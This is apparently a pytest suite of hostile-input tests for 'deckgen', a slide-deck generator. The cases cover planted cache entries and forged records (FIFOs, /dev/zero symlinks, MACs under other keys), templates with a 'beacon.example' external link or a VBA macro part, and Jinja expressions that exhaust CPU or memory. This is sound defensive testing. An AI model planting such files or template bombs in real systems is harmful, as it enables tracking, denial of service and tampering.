    Case("template-command-lists-drops", {"c.pptx": template_with(rels={MASTER_RELS: [("rIdX1", IMAGE, "http://beacon.example/p.png", True)]}, shapes={MASTER: PIC.replace("{rid}", "rIdX1")})},
         ["template", "c.pptx"], code=0, says="an external link (http:)"),
    Case("template-command-lists-macros", {"c.pptx": template_with(rels={PRES_RELS: [("rIdX4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)]},
                                                                   parts={"ppt/vbaProject.bin": MARK}, types=VBA_TYPES, main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")},
         ["template", "c.pptx"], code=0, says="a macro project (VBA)"),
]

# --- the diagram cache: entries verified, special files refused, only own names pruned -----------

PYRAMID = "pyramid: {layers: [{id: a, label: Alpha}, {id: b, label: Beta}, {id: c, label: Gamma}]}\n" + HEAD + "  - {kind: pyramid, id: p, title: P}\n"


def _spec_key(folder: Path) -> str:
    sys.path.insert(0, str(ROOT))
    from deckgen.pipeline import load

    (spec,) = load(folder / "t.yaml").pictured().values()
    return spec.key()


def planted(kind: str) -> Callable[[Path], None]:
    def setup(folder: Path) -> None:
        from PIL import Image

        cache = folder / "cache"
        cache.mkdir(exist_ok=True)
        key = _spec_key(folder)
        picture = io.BytesIO()
        Image.new("RGB", (40, 40), (255, 0, 255)).save(picture, format="PNG")
        png = picture.getvalue()
        png = png[:-12] + b"\x00\x00\x00\x15tEXt" + MARK + png[-12:]  # a marker the deck must not carry
        import hashlib

        digest = hashlib.sha256(png).hexdigest()[:32]
        if kind == "old-name":
            (cache / f"{key}.png").write_bytes(png)
        elif kind == "wrong-digest":
            (cache / f"{key}-{'0' * 32}.png").write_bytes(png)
        elif kind == "link-to-planted":
            (folder / "elsewhere.png").write_bytes(png)
            (cache / f"{key}-{digest}.png").symlink_to(folder / "elsewhere.png")
        elif kind == "dev-zero":
            (cache / f"{key}-{'0' * 32}.png").symlink_to("/dev/zero")
        elif kind == "fifo":
            os.mkfifo(cache / f"{key}-{'0' * 32}.png")
        elif kind == "folder":
            (cache / f"{key}-{'0' * 32}.png").mkdir()
        elif kind == "truncated":
            (cache / f"{key}-{digest}.png").write_bytes(png[:40])
        elif kind == "users-pictures":
            for i in range(450):
                (cache / f"holiday-{i:03}.png").write_bytes(png)
            (cache / "draft.tmp").write_bytes(b"my draft")
            os.utime(cache / "draft.tmp", (0, 0))
        elif kind == "record-fifo":
            os.mkfifo(folder / ".deckgen-written")
        elif kind == "record-dev-zero":
            (folder / ".deckgen-written").symlink_to("/dev/zero")
        elif kind == "record-link":
            (folder / "elsewhere.json").write_text('{"d.pptx": "00"}')
            (folder / ".deckgen-written").symlink_to(folder / "elsewhere.json")

    return setup


def cached(name: str, kind: str, outputs: tuple[str, ...] = ()) -> Case:
    case = build(name, {"t.yaml": PYRAMID}, env={"DECKGEN_CACHE_DIR": "cache"}, setup=planted(kind))
    case.outputs = ("d.pptx", "cache/*") + outputs
    return case



def state_home(folder: Path) -> Path:
    """Where a case's deckgen keeps its key: beside the case's folder, never in it."""
    return folder.parent / f"{folder.name}.state"


def case_key(folder: Path) -> bytes:
    """Return the key the case's deckgen will use, made now as deckgen would make it."""
    path = state_home(folder) / "deckgen" / "key"
    if not path.exists():
        path.parent.mkdir(parents=True, mode=0o700)
        path.write_bytes(os.urandom(32))
        path.chmod(0o600)
    return path.read_bytes()


def _signed_png() -> bytes:
    from PIL import Image

    picture = io.BytesIO()
    Image.new("RGB", (40, 40), (255, 0, 255)).save(picture, format="PNG")
    png = picture.getvalue()
    return png[:-12] + b"\x00\x00\x00\x15tEXt" + MARK + png[-12:]


def planted_signed(kind: str) -> Callable[[Path], None]:
    """Entries under the right name for this spec, as a stranger without the user's key
    could make them: the picture's own digest, a MAC under another key, a MAC of other
    bytes or of another spec."""

    def setup(folder: Path) -> None:
        import hashlib

        from deckgen.diagrams.cache import _mac

        cache = folder / "cache"
        cache.mkdir(exist_ok=True)
        key = _spec_key(folder)
        png = _signed_png()
        mine = case_key(folder)
        if kind == "right-digest":  # the name a cache entry had before entries were bound to a key
            name = hashlib.sha256(png).hexdigest()[:32]
        elif kind == "other-key":
            name = _mac(key, png, secret=os.urandom(32))
        elif kind == "empty-key":
            name = _mac(key, png, secret=b"")
        elif kind == "other-bytes":  # a genuine entry whose bytes were swapped
            name = _mac(key, png.replace(MARK, b"X" * len(MARK)), secret=mine)
        elif kind == "other-spec":
            name = _mac("0" * 64, png, secret=mine)
        elif kind == "zero-mac":
            name = "0" * 32
        elif kind == "many":
            for i in range(50):
                (cache / f"{key}-{i:032x}.png").write_bytes(png)
            name = hashlib.sha256(png).hexdigest()[:32]
        else:
            raise AssertionError(kind)
        (cache / f"{key}-{name}.png").write_bytes(png)

    return setup


def signed_cached(name: str, kind: str, args: list[str] | None = None) -> Case:
    case = cached(name, kind)
    case.setup = planted_signed(kind)
    if args is not None:
        case.args = args
        if args[0] == "check":
            case.package, case.outputs, case.clean = "", ("cache/*",), False
    return case


CACHE = [
    signed_cached("cache-right-digest-planted", "right-digest"),
    signed_cached("cache-mac-other-key", "other-key"),
    signed_cached("cache-mac-empty-key", "empty-key"),
    signed_cached("cache-mac-of-other-bytes", "other-bytes"),
    signed_cached("cache-mac-of-other-spec", "other-spec"),
    signed_cached("cache-mac-zero", "zero-mac"),
    signed_cached("cache-many-planted-names", "many"),
    signed_cached("check-with-right-digest-planted", "right-digest", ["check", "t.yaml"]),
    cached("cache-old-name-planted", "old-name"),
    cached("cache-wrong-digest", "wrong-digest"),
    cached("cache-link-to-planted", "link-to-planted"),
    cached("cache-entry-dev-zero", "dev-zero"),
    cached("cache-entry-fifo", "fifo"),
    cached("cache-entry-folder", "folder"),
    cached("cache-entry-truncated", "truncated"),
    cached("cache-in-users-pictures", "users-pictures"),
    Case("check-with-fifo-entry", {"t.yaml": PYRAMID}, ["check", "t.yaml"], code=0, env={"DECKGEN_CACHE_DIR": "cache"}, setup=planted("fifo"), outputs=("cache/*",)),
    Case("diagram-with-planted-entry", {"t.yaml": PYRAMID}, ["diagram", "t.yaml", "-o", "out"], code=0, env={"DECKGEN_CACHE_DIR": "cache"}, setup=planted("wrong-digest"),
         outputs=("out", "out/*", "cache/*")),
]

# --- files: --force never replaces an input; records that are not files are ignored --------------

PIC_SLIDE = "  - {kind: image, title: I, image: slide-01.png, alt: A}\n"
FILES = [
    Case("force-over-outline", {"t.yaml": HEAD + "  - kind: title\n"}, ["build", "t.yaml", "-o", "t.yaml", "--force"], says="must end in .pptx"),
    Case("force-pptx-named-outline", {"t.pptx": HEAD + "  - kind: title\n"}, ["build", "t.pptx", "-o", "t.pptx", "--force"], says="is one of this command's inputs"),
    Case("force-over-template", {"t.yaml": "deck: {title: T, template: c.pptx}\nslides:\n  - kind: title\n", "c.pptx": "<template>"}, ["build", "t.yaml", "-o", "c.pptx", "--force"], says="is one of this command's inputs"),
    Case("force-notes-over-code", {"t.yaml": HEAD + "  - {kind: code, title: C, source: s.md}\n", "s.md": "x\n"}, ["notes", "t.yaml", "-o", "s.md", "--force"], says="is one of this command's inputs"),
    Case("force-notes-over-csv", {"t.yaml": HEAD + "  - {kind: chart, title: C, data: d.md}\n", "d.md": "l,v\na,1\n"}, ["notes", "t.yaml", "-o", "d.md", "--force"], says="is one of this command's inputs"),
    Case("force-notes-over-include", {"t.yaml": HEAD + "  - include: i.md\n", "i.md": "slides:\n  - kind: title\n"}, ["notes", "t.yaml", "-o", "i.md", "--force"], says="is one of this command's inputs"),
    Case("force-notes-over-vars", {"t.yaml": HEAD + "  - kind: title\n", "v.md": "x: 1\n"}, ["notes", "t.yaml", "--vars", "v.md", "-o", "v.md", "--force"], says="is one of this command's inputs"),
    Case("force-pdf-over-input-code", {"t.yaml": HEAD + "  - {kind: code, title: C, source: d.pdf}\n", "d.pdf": "print(1)\n"}, ["build", "t.yaml", "-o", "d.pptx", "--pdf", "--force"],
         says="is one of this command's inputs", outputs=("d.pptx",)),
    Case("force-pdf-over-input-picture", {"t.yaml": HEAD + "  - {kind: code, title: C, source: d.pdf}\n", "d.pdf": "x = 1\n"}, ["build", "t.yaml", "--pdf", "--force", "-o", "d.pptx"],
         says="d.pdf: is one of this command's inputs", outputs=("d.pptx",)),
    Case("force-diagram-over-picture", {"t.yaml": PYRAMID.replace("slides:\n", "slides:\n  - {kind: image, title: I, image: t-p.png, alt: A}\n"), "t-p.png": "<png>"}, ["diagram", "t.yaml", "-o", ".", "--force"],
         says="is one of this command's inputs"),
    cached("record-fifo", "record-fifo"),
    cached("record-dev-zero", "record-dev-zero"),
    cached("record-link", "record-link"),
]
for case in FILES[-3:]:
    case.outputs = ("d.pptx", "cache/*", ".deckgen-written")


def forged_record(kind: str, output: str = "d.pptx") -> Callable[[Path], None]:
    """A user's own file beside a `.deckgen-written` record that names it with its right
    size and digest, as whoever ships the folder could write one: unsigned, with a MAC under
    another key, or with a MAC deckgen made for another folder, name or size."""

    def setup(folder: Path) -> None:
        import hashlib
        import json

        from deckgen.files import _entry_mac

        data = (folder / output).read_bytes()
        size, digest = len(data), hashlib.sha256(data).hexdigest()
        mine = case_key(folder)
        status = os.stat(folder)
        here = (status.st_dev, status.st_ino, os.path.realpath(folder))
        other = folder.parent / f"{folder.name}.other"
        other.mkdir(exist_ok=True)
        there = (os.stat(other).st_dev, os.stat(other).st_ino, os.path.realpath(other))
        entry = lambda mac, s=size: {"size": s, "sha256": digest, "mac": mac}  # noqa: E731
        record: object
        if kind == "digest-only":  # the record's form before records were bound
            record = {output: digest}
        elif kind == "no-mac":
            record = {output: {"size": size, "sha256": digest}}
        elif kind == "zero-mac":
            record = {output: entry("0" * 64)}
        elif kind == "other-machine":
            record = {output: entry(_entry_mac(here, output, size, digest, secret=os.urandom(32)))}
        elif kind == "other-folder":  # made by deckgen, this user, for a folder the file was copied from
            record = {output: entry(_entry_mac(there, output, size, digest, secret=mine))}
        elif kind == "moved-folder":  # same inode, another path
            record = {output: entry(_entry_mac((here[0], here[1], "/somewhere/else"), output, size, digest, secret=mine))}
        elif kind == "other-inode":  # same path, another folder made there since
            record = {output: entry(_entry_mac((here[0], here[1] + 1, here[2]), output, size, digest, secret=mine))}
        elif kind == "other-name":
            record = {output: entry(_entry_mac(here, "other.pptx", size, digest, secret=mine))}
        elif kind == "other-size":
            record = {output: entry(_entry_mac(here, output, size + 1, digest, secret=mine), size + 1)}
        elif kind == "mac-in-wrong-case":
            record = {output: entry(_entry_mac(here, output, size, digest, secret=mine).upper())}
        elif kind == "list":
            record = [output, digest]
        elif kind in ("link-to-signed", "fifo", "dev-zero", "folder", "huge"):
            signed = {output: entry(_entry_mac(here, output, size, digest, secret=mine))}
            if kind == "link-to-signed":  # a signed record elsewhere, reached through a link
                (folder.parent / f"{folder.name}.record").write_text(json.dumps(signed))
                (folder / ".deckgen-written").symlink_to(folder.parent / f"{folder.name}.record")
            elif kind == "fifo":
                os.mkfifo(folder / ".deckgen-written")
            elif kind == "dev-zero":
                (folder / ".deckgen-written").symlink_to("/dev/zero")
            elif kind == "folder":
                (folder / ".deckgen-written").mkdir()
            else:  # past the 4 MiB a record may be, a signed entry at its start
                text = json.dumps(signed)[:-1] + ', "pad": "' + "x" * (5 << 20) + '"}'
                (folder / ".deckgen-written").write_text(text)
            return
        elif kind == "signed":  # the control: deckgen's own record, under this user's key, for this folder
            record = {output: entry(_entry_mac(here, output, size, digest, secret=mine))}
        else:
            raise AssertionError(kind)
        (folder / ".deckgen-written").write_text(json.dumps(record))

    return setup


RECORD_KINDS = ("digest-only", "no-mac", "zero-mac", "other-machine", "other-folder", "moved-folder", "other-inode", "other-name", "other-size",
                "mac-in-wrong-case", "list", "link-to-signed", "fifo", "dev-zero", "folder", "huge")
RECORDS = [
    Case(f"record-{kind}-over-users-deck", {"t.yaml": HEAD + "  - kind: title\n", "d.pptx": "<template>"}, ["build", "t.yaml", "-o", "d.pptx"], says="was not written by deckgen", setup=forged_record(kind))
    for kind in RECORD_KINDS
] + [
    Case("record-forged-for-notes", {"t.yaml": HEAD + "  - kind: title\n", "script.md": "my own script\n"}, ["notes", "t.yaml", "-o", "script.md"], says="was not written by deckgen",
         setup=forged_record("other-machine", "script.md")),
    Case("record-copied-for-notes", {"t.yaml": HEAD + "  - kind: title\n", "script.md": "my own script\n"}, ["notes", "t.yaml", "-o", "script.md"], says="was not written by deckgen",
         setup=forged_record("other-folder", "script.md")),
    Case("record-forged-for-schema", {"s.json": "{}"}, ["schema", "-o", "s.json"], says="was not written by deckgen", setup=forged_record("digest-only", "s.json")),
    Case("record-forged-for-diagram", {"t.yaml": PYRAMID, "t-p.png": "<png>"}, ["diagram", "t.yaml", "-o", "."], says="was not written by deckgen", setup=forged_record("zero-mac", "t-p.png")),
    Case("record-signed-is-trusted", {"t.yaml": HEAD + "  - kind: title\n", "d.pptx": "<template>"}, ["build", "t.yaml", "-o", "d.pptx"], code=0, setup=forged_record("signed"),
         outputs=("d.pptx", ".deckgen-written")),
]

def planted_charsets(kind: str) -> Callable[[Path], None]:
    """Entries of the font map cache (`charsets/`) at the names deckgen will read, found by a
    run under another user's key: kept as that run wrote them (a MAC under another key), or
    each replaced by a FIFO, a link to /dev/zero, or a link to a file of the case's own."""

    def setup(folder: Path) -> None:
        env = {**os.environ, "PYTHONPATH": str(ROOT), "DECKGEN_CACHE_DIR": str(folder / "cache"), "XDG_STATE_HOME": str(folder.parent / f"{folder.name}.stranger")}
        subprocess.run([sys.executable, "-m", "deckgen", "check", "t.yaml"], cwd=folder, env=env, capture_output=True, check=True)
        names = sorted((folder / "cache" / "charsets").iterdir())
        assert names
        for path in names:
            if kind == "fifo":
                path.unlink()
                os.mkfifo(path)
            elif kind == "dev-zero":
                path.unlink()
                path.symlink_to("/dev/zero")
            elif kind == "link":
                (folder / "mine.bin").write_bytes(MARK)
                path.unlink()
                path.symlink_to(folder / "mine.bin")

    return setup


CHARSETS = [
    Case(f"charsets-{kind}", {"t.yaml": HEAD + "  - kind: title\n  - {kind: bullets, title: B, bullets: [one, zwei, 日本語]}\n"}, ["build", "t.yaml", "-o", "d.pptx"], code=0,
         env={"DECKGEN_CACHE_DIR": "cache"}, setup=planted_charsets(kind), outputs=("d.pptx", "cache/*"), package="d.pptx")
    for kind in ("other-key", "fifo", "dev-zero", "link")
]


# --- answers that would mislead: decimal commas, negative slices, dropped series, highlights --

def pie(series: str, kind: str = "pie", highlight: str = "") -> dict:
    extra = f"\n    highlight: {highlight}" if highlight else ""
    return {"t.yaml": HEAD + f"  - kind: chart\n    title: C\n    type: {kind}\n    categories: [alpha, beta]{extra}\n    series:\n{series}"}


MISLEADING = [
    check("csv-decimal-comma", chart('label,value\na,"1,5"\nb,2\n'), says="has a decimal comma; write 1.5", where="d.csv:2:"),
    check("csv-decimal-comma-negative", chart('label,value\na,1\nb,"-0,25"\n'), says="write -0.25", where="d.csv:3:"),
    check("csv-decimal-comma-no-integer", chart('label,value\na,",5"\n'), says="write .5", where="d.csv:2:"),
    check("csv-decimal-comma-second-series", chart('label,x,y\na,1,"2,75"\n'), says="'2,75' in column 'y' has a decimal comma", where="d.csv:2:"),
    check("csv-commas-not-grouping", chart('label,value\na,"1,5,6"\n'), says="commas may only group thousands", where="d.csv:2:"),
    check("csv-comma-grouping-wrong", chart('label,value\na,"12,34,567"\n'), says="commas may only group thousands", where="d.csv:2:"),
    build("csv-thousands-grouped", chart('label,value\na,"1,234"\nb,"12,345.5"\n')),
    check("inline-decimal-comma-quoted", inline('["1,5", 2]'), says="value 1 is '1,5', written with a decimal comma; write 1.5", where="t.yaml:8:"),
    check("inline-decimal-comma-second", inline('[1, "2,5"]'), says="write 2.5", where="t.yaml:8:"),
    check("inline-decimal-comma-unquoted", inline("[1,5, 2]"), says="YAML reads 1,5 as two numbers, 1 and 5; for 1 and a fraction write 1.5", where="t.yaml:8:"),
    check("inline-pie-negative", inline("[-1, 2]", "pie"), says="-1 (a) is negative; a pie chart's slices", where="t.yaml:8:"),
    check("inline-doughnut-negative", inline("[3, -0.5]", "doughnut"), says="-0.5 (b) is negative; a doughnut chart's slices", where="t.yaml:8:"),
    build("inline-pie-zero-slice", inline("[0, 2]", "pie")),
    check("csv-pie-negative", chart("label,value\na,1\nb,-2\n", "pie"), says="series 'value': -2 (b) is negative", where="t.yaml:3:"),
    check("csv-doughnut-negative", chart("label,value\na,-1\nb,2\n", "doughnut"), says="-1 (a) is negative; a doughnut chart's slices", where="t.yaml:3:"),
    check("inline-pie-two-series", pie("      - {name: first, values: [1, 2]}\n      - {name: second, values: [3, 4]}\n"), says="a pie chart shows one series, 'first'; it would drop 'second'", where="t.yaml:"),
    check("inline-doughnut-three-series", pie("      - {name: a, values: [1, 2]}\n      - {name: b, values: [3, 4]}\n      - {name: c, values: [5, 6]}\n", "doughnut"), says="it would drop 'b', 'c'", where="t.yaml:"),
    check("csv-pie-two-series", chart("label,first,second\na,1,2\nb,3,4\n", "pie"), says="a pie chart shows one series, 'first'; it would drop 'second'", where="t.yaml:3:"),
    check("csv-doughnut-three-series", chart("label,x,y,z\na,1,2,3\n", "doughnut"), says="it would drop 'y', 'z'", where="t.yaml:3:"),
    check("highlight-no-category", pie("      - {name: s, values: [1, 2]}\n", highlight="alpah"), says="no category or series 'alpah' (did you mean 'alpha'?)", where="t.yaml:7:"),
    check("highlight-no-series", {"t.yaml": HEAD + "  - {kind: chart, title: C, categories: [a], highlight: [revenu], series: [{name: revenue, values: [1]}]}\n"}, says="(did you mean 'revenue'?)", where="t.yaml:3:"),
    check("highlight-csv-no-category", {"t.yaml": HEAD + "  - {kind: chart, title: C, data: d.csv, highlight: gamma}\n", "d.csv": "label,value\nalpha,1\nbeta,2\n"},
          says="no category or series 'gamma'", where="t.yaml:3:"),
    check("highlight-csv-typo", {"t.yaml": HEAD + "  - {kind: chart, title: C, data: d.csv, highlight: 'betta'}\n", "d.csv": "label,value\nalpha,1\nbeta,2\n"},
          says="(did you mean 'beta'?)", where="t.yaml:3:"),
    build("highlight-csv-known", {"t.yaml": HEAD + "  - {kind: chart, title: C, data: d.csv, highlight: beta}\n", "d.csv": "label,value\nalpha,1\nbeta,2\n"}),
]

# --- caps before work: a template's shapes, an outline's audiences ------------------------------

SP = ('<p:sp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
      '<p:nvSpPr><p:cNvPr id="{id}" name="S{id}"/><p:cNvSpPr/><p:nvPr>{ph}</p:nvPr></p:nvSpPr><p:spPr/></p:sp>')


def shapes(count: int, placeholder: bool = False, start: int = 1000) -> str:
    return "".join(SP.replace("{id}", str(start + i)).replace("{ph}", f'<p:ph type="body" idx="{100 + i}"/>' if placeholder else "") for i in range(count))


GROUP = ('<p:grpSp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
         '<p:nvGrpSpPr><p:cNvPr id="999" name="G"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{inner}</p:grpSp>')


def audiences(count: int, args: list[str], code: int = 2, says: str = "", skip: int = 0) -> Case:
    listed = "".join(f"  a{i}: {{label: A{i}" + (", skip: [" + ", ".join(f"s{j}" for j in range(skip)) + "]" if skip else "") + "}\n" for i in range(count))
    files = {"t.yaml": "deck: {title: Talk}\naudiences:\n" + listed + "slides:\n  - kind: title\n"}
    return Case(f"audiences-{count}-{args[0]}" + (f"-{args[-1]}" if len(args) > 2 else "") + (f"-skip{skip}" if skip else ""), files, args, code=code, says=says,
                where="t.yaml:2:1" if code == 2 else "", outputs=("build/*", "build") if args[0] == "build" and code == 0 else ())


TOO_MANY = "audiences; an outline defines at most 50"
CAPS = [
    on_template("template-layout-10000-shapes", template_with(shapes={LAYOUT: shapes(10000)}), code=2, says="(ppt/slideLayouts/slideLayout2.xml) has 10005 shapes (5 of them placeholders); a master or layout may have at most 1000", where="c.pptx"),
    on_template("template-layout-10000-placeholders", template_with(shapes={LAYOUT: shapes(10000, True)}), code=2, says="has 10005 shapes (10005 of them placeholders)", where="c.pptx"),
    on_template("template-master-5000-shapes", template_with(shapes={MASTER: shapes(5000)}), code=2, says="slide master 1 (ppt/slideMasters/slideMaster1.xml) has 50", where="c.pptx"),
    on_template("template-shapes-in-a-group", template_with(shapes={LAYOUT: GROUP.replace("{inner}", shapes(3000))}), code=2, says="shapes", where="c.pptx"),
    on_template("template-groups-in-groups", template_with(shapes={LAYOUT: (GROUP.replace("{inner}", shapes(2)) * 400)}), code=2, says="has 1205 shapes", where="c.pptx"),
    on_template("template-layout-1000-shapes", template_with(shapes={LAYOUT: shapes(990)})),  # at the limit: built
    Case("template-command-10000-shapes", {"c.pptx": template_with(shapes={LAYOUT: shapes(10000)})}, ["template", "c.pptx"], says="a master or layout may have at most 1000", where="c.pptx"),
    audiences(2000, ["check", "t.yaml"], says="2000 " + TOO_MANY),
    audiences(2000, ["check", "t.yaml", "--audience", "a1999"], says="2000 " + TOO_MANY),
    audiences(2000, ["build", "t.yaml", "--audience", "all"], says="2000 " + TOO_MANY),
    audiences(2000, ["audiences", "t.yaml"], says="2000 " + TOO_MANY),
    audiences(2000, ["notes", "t.yaml", "--audience", "all"], says="2000 " + TOO_MANY),
    audiences(51, ["check", "t.yaml"], says="51 " + TOO_MANY),
    audiences(50, ["check", "t.yaml", "--audience", "a49"], code=0),
    audiences(50, ["audiences", "t.yaml"], code=0),
    audiences(20, ["check", "t.yaml", "--audience", "a3"], code=0, skip=1900),
]


for case in TEMPLATE_PACKAGES + CACHE:
    case.clean = True
CASES = TEMPLATES + INCLUDES + CODES + CSVS + VALUES + LINKS + TEMPLATE_PACKAGES + CACHE + FILES + RECORDS + MISLEADING + CAPS + CHARSETS


# --- running ----------------------------------------------------------------------------------------


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


@dataclass
class Ran:
    code: int
    stdout: str
    stderr: str
    cpu: float
    peak: int
    before: dict
    after: dict
    folder: Path


def _run(case: Case, folder: Path) -> Ran:
    folder.mkdir(parents=True)
    make(folder, case.files)
    if case.setup is not None:
        case.setup(folder)
    before = snapshot(folder, dirs=True)
    # a check of one slide takes a second of CPU time, a build two: 3 s of CPU time stop a
    # runaway quickly; the wall-clock budget stays the default backstop, which a busy machine
    # does not reach
    env = {**os.environ, "PYTHONPATH": str(ROOT), "DECKGEN_CACHE_DIR": "", "DECKGEN_TIME_BUDGET": "3", "XDG_STATE_HOME": str(state_home(folder)), **case.env}
    env.pop("DECKGEN_WALL_BUDGET", None)
    run = run_measured([sys.executable, "-m", "deckgen", *case.args], folder, env, BACKSTOP, _limits)
    return Ran(run.code, run.stdout, run.stderr, run.cpu, run.peak, before, snapshot(folder, dirs=True), folder)


@pytest.fixture(scope="module")
def ran(request, tmp_path_factory) -> dict[str, Ran]:
    """Run every selected case, each in its own process, two at a time."""
    wanted = {item.callspec.params["case"].name for item in request.session.items if item.originalname == "test_hostile_input" and hasattr(item, "callspec")}
    base = tmp_path_factory.mktemp("hostile")
    chosen = [c for c in CASES if c.name in wanted]
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda c: _run(c, base / c.name), chosen))
    return {c.name: r for c, r in zip(chosen, results)}


def _allowed(name: str, outputs: tuple[str, ...]) -> bool:
    for pattern in outputs:
        if name == pattern or (pattern.endswith("/*") and name.startswith(pattern[:-1])) or name == pattern.removesuffix("/*"):
            return True
    return name == ".deckgen-written" and bool(outputs)


def _package_is_clean(path: Path) -> None:
    """The deck holds no external relationship, macro, object, embedded font, comment or custom
    XML, and no byte a stranger planted; and what is left is a sound package (every r:id
    resolving, every part typed, the schemas' word)."""
    from pptx_checks import check_package

    assert check_package(path) == []
    with zipfile.ZipFile(path) as deck:
        for name in deck.namelist():
            data = deck.read(name)
            assert MARK not in data, f"{name} carries a planted marker"
            assert not re.search(r"vbaProject|embeddings/|activeX|/fonts/|^fonts/|customXml|comments/", name), name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in data, f"{name} keeps an external relationship"
                assert b"vbaProject" not in data and b"oleObject" not in data, name
            if name == "[Content_Types].xml":
                assert b"macroEnabled" not in data and b"vbaProject" not in data
            if name.endswith(".xml"):
                assert b"javascript:" not in data and b"beacon.example" not in data, name
        for name in deck.namelist():
            if name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
                pytest.fail(f"an object is embedded: {name}")


def _workbook_cells_are_values(path: Path) -> None:
    """Every chart's embedded workbook holds no formula: cells written `=...` stay text."""
    with zipfile.ZipFile(path) as deck:
        books = [n for n in deck.namelist() if n.endswith(".xlsx")]
        assert books, "the chart's workbook is embedded"
        for name in books:
            with zipfile.ZipFile(io.BytesIO(deck.read(name))) as book:
                for part in book.namelist():
                    if part.startswith("xl/worksheets/"):
                        assert b"<f>" not in book.read(part) and b"<f " not in book.read(part), f"{name}:{part} holds a formula"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(case: Case, ran: dict[str, Ran]):
    run = ran[case.name]
    output = run.stdout + run.stderr
    assert run.code == case.code, output[-3000:]
    assert run.cpu < SECONDS and run.peak < MEMORY, (run.cpu, run.peak)
    # nothing waits: a read that blocked would end at the wall-clock backstop, not at its answer
    assert "of wall-clock time" not in output, output[-3000:]
    assert "Traceback" not in output and "internal error" not in output, output[-3000:]
    assert case.says in output, output[-3000:]
    if case.code == 2:
        lines = [line for line in run.stderr.splitlines() if line and not line.startswith("warning:")]
        assert lines, "exit 2 says why"
        if case.where:
            # a file the outline reads is named by its full path
            assert any(line.startswith(case.where) or f"/{case.where}" in line.split(" ", 1)[0] for line in lines), lines
            assert any(re.match(r"^[^:]+(:\d+:\d+)?: ", line) for line in lines), lines
    for name, content in run.before.items():
        if not _allowed(name, case.outputs) or name.startswith("cache/holiday") or name == "cache/draft.tmp":
            assert run.after.get(name) == content, f"{name} changed or went"
    for name, content in run.after.items():  # no planted picture reaches anything deckgen made
        if not name.startswith("cache/") and isinstance(content, bytes) and run.before.get(name) != content:
            assert MARK not in content, f"{name} carries a planted marker"
    made = set(run.after) - set(run.before)
    assert all(_allowed(name, case.outputs) for name in made), sorted(n for n in made if not _allowed(n, case.outputs))
    if case.package:
        deck = run.folder / case.package
        assert deck.is_file()
        if case.clean:
            _package_is_clean(deck)
        if case.name.startswith("csv-"):
            _workbook_cells_are_values(deck)


def test_the_corpus_is_large_and_covers_every_class():
    assert len(CASES) >= 179 + 60  # the first corpus and the classes of records, cache MACs, misleading answers and caps
    assert len({c.name for c in CASES}) == len(CASES)
    assert min(len(TEMPLATES), len(INCLUDES), len(CODES), len(CSVS), len(LINKS), len(TEMPLATE_PACKAGES), len(CACHE), len(FILES), len(RECORDS), len(MISLEADING), len(CAPS)) >= 6


# --- budgets past every list ------------------------------------------------------------------------


def test_a_template_no_check_names_is_stopped_by_the_default_budget(tmp_path: Path):
    """A macro that recurses through itself three ways, sorting at each call: no single
    operation in it is large, the loop budget counts its steps in thousands, and it would run
    for hours. The process budget (8 s of CPU time by default) ends it, located at the field,
    with the CPU time it names: under 10 s for every process of the command together."""
    outline = HEAD + "  - kind: title\n  - kind: section\n    title: \"{% macro f(n) %}{% set y = range(999)|list|sort|reverse|list %}{% for i in range(3) %}{{ f(n + 1) if n < 25 else '' }}{% endfor %}{% endmacro %}{{ f(0) }}\"\n"
    (tmp_path / "t.yaml").write_text(outline)
    env = dict(os.environ, PYTHONPATH=str(ROOT), DECKGEN_CACHE_DIR="")
    for name in ("DECKGEN_TIME_BUDGET", "DECKGEN_WALL_BUDGET", "DECKGEN_MEMORY_BUDGET"):
        env.pop(name, None)
    run = run_measured([sys.executable, "-m", "deckgen", "check", "t.yaml"], tmp_path, env, BACKSTOP, _limits)
    assert run.code == 2, run.stderr
    # the sandbox's own count of CPU time (5 s) or the process budget's (8 s), whichever comes first
    assert run.stderr.startswith(("t.yaml:5:12: slides[1].title: stopped: the work this outline asks for used more than 8 s of CPU time",
                                  "t.yaml:5:12: slides[1].title: not allowed in outlines: templates used more than 5 s of CPU time")), run.stderr
    assert 5 <= run.cpu < SECONDS and run.peak < MEMORY, (run.cpu, run.peak)


def test_work_past_the_memory_budget_ends_located(tmp_path: Path):
    """Allocation no check sizes (a map over a list of long strings) meets the address-space
    limit in the child process: a MemoryError, reported at the field, exit 2."""
    (tmp_path / "t.yaml").write_text(HEAD + "  - kind: title\n    notes: \"{% set s = 'x' * 99999 %}{% set l = [s] * 99999 %}{{ l|map('upper')|map('lower')|map('title')|first }}\"\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT), DECKGEN_CACHE_DIR="", DECKGEN_MEMORY_BUDGET="300")
    run = run_measured([sys.executable, "-m", "deckgen", "check", "t.yaml"], tmp_path, env, BACKSTOP, _limits)
    assert run.code == 2, run.stderr
    assert run.stderr.startswith("t.yaml:4:12: slides[0].notes: "), run.stderr
    assert "Traceback" not in run.stderr
    assert run.peak < 300 * 1024 * 1024 + (64 << 20), run.peak  # the budget held, give or take the interpreter's start
    assert run.cpu < SECONDS, run.cpu


def test_the_time_budget_is_the_one_set(tmp_path: Path):
    """DECKGEN_TIME_BUDGET sets the CPU time: two seconds stop a loop of sorts (which the
    sandbox's own step count would let run far longer), naming the budget and the field; the
    CPU time used says it was that budget, whatever the machine's load."""
    (tmp_path / "t.yaml").write_text(HEAD + "  - kind: title\n    notes: \"{% for i in range(1000) %}{% for j in range(1000) %}{% set y = range(999)|list|sort %}{% endfor %}{% endfor %}\"\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT), DECKGEN_CACHE_DIR="", DECKGEN_TIME_BUDGET="2")
    env.pop("DECKGEN_WALL_BUDGET", None)
